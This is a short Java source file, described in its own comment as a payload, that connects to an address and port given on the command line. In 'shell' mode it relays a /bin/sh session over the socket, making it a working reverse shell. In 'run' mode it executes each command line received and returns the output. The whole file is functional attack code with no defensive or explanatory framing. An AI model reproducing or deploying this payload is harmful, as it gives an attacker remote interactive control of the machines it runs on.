// SPDX-License-Identifier: Apache-2.0
// Remote ADDRESS PORT shell|run: a payload in Java: a shell whose pipes are relayed, or programs
// that are run one by one.
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.Socket;

public class Remote {
    static void copy(InputStream from, OutputStream to) {
        byte[] bytes = new byte[4096];
        try {
            for (int length; (length = from.read(bytes)) > 0; to.flush())
                to.write(bytes, 0, length);
        } catch (IOException ended) {
            return;
        }
    }

    public static void main(String[] arguments) throws Exception {
        try (Socket socket = new Socket(arguments[0], Integer.parseInt(arguments[1]))) {
            InputStream in = socket.getInputStream();
            OutputStream out = socket.getOutputStream();
            if (arguments[2].equals("shell")) {
                Process shell = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
                Thread up = new Thread(() -> copy(shell.getInputStream(), out));
                Thread down = new Thread(() -> copy(in, shell.getOutputStream()));
                down.setDaemon(true);
                up.start();
                down.start();
                shell.waitFor();
                up.join();
                return;
            }
            BufferedReader lines = new BufferedReader(new InputStreamReader(in));
            for (String line; (line = lines.readLine()) != null && !line.equals("exit");)
                copy(new ProcessBuilder(line.split(" ")).start().getInputStream(), out);
        }
    }
}
